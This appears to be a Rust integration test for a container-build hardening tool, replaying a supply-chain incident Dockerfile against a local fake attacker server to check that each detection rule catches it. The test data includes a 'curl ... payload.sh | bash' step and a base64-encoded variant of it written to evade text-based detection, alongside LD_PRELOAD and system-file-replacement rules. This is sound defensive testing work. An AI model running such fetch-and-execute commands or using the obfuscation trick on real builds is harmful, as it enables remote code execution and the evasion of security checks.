//! `examples/forensics`: the incident, replayed with one defence at a time, and then with none, when
//! the finished image has to tell what happened.

use std::collections::BTreeSet;
use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use serde_json::Value;

use crate::harness::{Build, Place, Registry, Who, debian, have, ok};

fn example(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("examples/forensics").join(name)
}

/// The actor's server: it gives the payload, and counts who asked.
fn actor() -> (String, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let address = listener.local_addr().expect("an address");
    let asked = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&asked);
    let payload = fs::read_to_string(example("payload.sh")).expect("a file of the example");
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut request = [0u8; 4096];
            let _ = stream.read(&mut request);
            count.fetch_add(1, Ordering::SeqCst);
            let head = format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n", payload.len());
            let _ = stream.write_all((head + &payload).as_bytes());
        }
    });
    (format!("http://{address}"), asked)
}

/// A Debian with curl, which is the machine's: it is of the same release.
fn base(registry: &Registry) -> Option<String> {
    let layout = debian()?;
    if !have(&["curl"]) {
        return None;
    }
    let place = Place::new(Who::usual());
    let listed = ok(Command::new("ldd").arg("/usr/bin/curl"));
    let libraries: Vec<&str> =
        listed.split_ascii_whitespace().filter(|word| word.starts_with('/')).collect();
    // Through the registry: the layout may lie where only its owner reads.
    registry.push(&layout, "base/debian:12");
    let mut text = format!("FROM {}/base/debian:12\n", registry.host());
    for path in libraries.into_iter().chain(["/usr/bin/curl"]) {
        let real = ok(Command::new("readlink").args(["-f", path]));
        let name = Path::new(path).file_name().expect("a name").to_string_lossy().into_owned();
        place.file(&format!("ctx/{name}"), fs::read(real.trim()).expect("a library of curl"));
        // What the base has is of its packages.
        let mode = if name == "curl" { "755" } else { "644" };
        text.push_str(&format!("COPY --chmod={mode} {name} /added/{name}\n"));
    }
    text.push_str(
        "RUN for file in /added/*; do name=${file##*/}; \
         if [ \"$name\" = curl ]; then mv \"$file\" /usr/bin/; continue; fi; \
         for lib in /usr/lib/*-linux-gnu; do \
         if [ -e \"$lib/$name\" ] || [ -e \"/lib64/$name\" ]; then rm \"$file\"; \
         else mv \"$file\" \"$lib/\"; fi; done; done; rmdir /added; curl --version > /dev/null\n",
    );
    Build::text(&place, &text).arg("--squash").limit(600).run().digest();
    registry.push(&place.at("image.oci"), "corp/debian:12");
    Some(format!("{}/corp/debian:12", registry.host()))
}

/// The line of the example that begins like this.
fn line(start: &str) -> u64 {
    let text = fs::read_to_string(example("Dockerfile")).expect("a file of the example");
    let found = (1..).zip(text.lines()).find(|(_, line)| line.starts_with(start));
    found.unwrap_or_else(|| panic!("no line begins with {start}")).0
}

/// When a rule looks.
#[derive(PartialEq)]
enum When {
    Text,
    Step,
    Image,
}

#[test]
fn each_defence_alone_stops_the_build_at_its_line() {
    if !have(&["docker-registry", "skopeo"]) {
        return;
    }
    let registry = Registry::start();
    let Some(base) = base(&registry) else { return };
    let (mirror, asked) = actor();
    let place = Place::new(Who::usual());
    let build = |text: &[u8]| {
        place.file("Dockerfile", text);
        Build::of(&place)
            .policy(Some("hardened"))
            .arg(format!("--build-arg=BASE={base}"))
            .arg(format!("--build-arg=MIRROR={mirror}"))
            .arg(format!("--report=json={}", place.at("report.json").display()))
            .limit(240)
    };
    let story = fs::read(example("Dockerfile")).expect("a file of the example");
    let first = || -> (String, u64) {
        let report = fs::read(place.at("report.json")).expect("it is written");
        let report: Value = serde_json::from_slice(&report).expect("JSON");
        let one = &report["findings"][0];
        let rule = one["rule"].as_str().unwrap_or("none").to_owned();
        (rule, one["span"]["line"].as_u64().unwrap_or(0))
    };
    let (curl, libc) = ("RUN curl", "RUN for file in /usr/lib");
    for (rule, at, when) in [
        ("base-unpinned", "FROM", When::Text),
        ("final-user-root", "USER root", When::Text),
        ("pipe-to-interpreter", curl, When::Text),
        ("loader-env", "ENV LD_PRELOAD", When::Text),
        ("loader-hook-written", libc, When::Step),
        ("hidden-layer-executable", curl, When::Image),
        ("deleted-file-shipped", curl, When::Image),
        ("system-file-replaced", libc, When::Image),
        ("package-file-modified", libc, When::Image),
    ] {
        let before = asked.load(Ordering::SeqCst);
        let mut run = build(&story).arg(format!("--only={rule}"));
        // What is a warning in the profile stops where somebody says so.
        run = run.arg(format!("--set=rules.{rule}=error"));
        let err = run.run().fails(1, &[rule]);
        assert_eq!(first(), (rule.to_owned(), line(at)), "{err}");
        match when {
            When::Text => assert_eq!(asked.load(Ordering::SeqCst), before, "{rule}: nothing ran"),
            // The step after it did not begin.
            When::Step | When::Image => assert!(!err.contains("written:"), "{rule}: {err}"),
        }
    }
    assert!(asked.load(Ordering::SeqCst) > 0, "the later ones have let the payload run");

    // The same, so that no text shows it: a script that is made by the step that runs it.
    let text = String::from_utf8(story).expect("a text");
    let hidden = text.replace(
        "RUN curl -sSL ${MIRROR}/payload.sh | bash",
        "RUN echo Y3VybCAtc1NMICIkTUlSUk9SL3BheWxvYWQuc2giIHwgYmFzaAo= | base64 -d > /i.sh && \
         MIRROR=${MIRROR} bash /i.sh",
    );
    assert_ne!(hidden, text);
    let run = build(hidden.as_bytes()).arg("--only=pipe-to-interpreter").arg("--audit=exec");
    let err = run.run().fails(1, &["`bash` runs what `curl` fetches"]);
    assert_eq!(first(), ("pipe-to-interpreter".to_owned(), line(curl)), "{err}");

    // All of them: the profile as it is.
    let err = build(text.as_bytes()).run().fails(1, &["base-unpinned", "loader-env"]);
    assert!(!err.contains("miss:"), "nothing ran: {err}");

    // And none of them.
    let (outcome, _) = build(text.as_bytes()).policy(Some("none")).image();
    outcome.says(&["policy none"]);
    // All of it is in what was built, for who has nothing but that.
    let mut audit = place.who().command(place.program(), &place.at("home"));
    audit.args(["audit", "--policy=hardened", "--format=json", "--fail-on=never"]);
    let done = crate::harness::run(audit.arg(&outcome.result), Duration::from_secs(60));
    assert_eq!(done.code(), 0, "{}", done.err());
    let report: Value = serde_json::from_str(&done.out()).expect("JSON");
    let found: BTreeSet<&str> = report["findings"]
        .as_array()
        .expect("a list")
        .iter()
        .filter_map(|one| one["rule"].as_str())
        .collect();
    for rule in [
        "final-user-root",
        "history-remote-execution",
        "hidden-layer-executable",
        "deleted-file-shipped",
        "system-file-replaced",
        "package-file-modified",
        "loader-env",
    ] {
        assert!(found.contains(rule), "{rule} is not among {found:?}");
    }
}
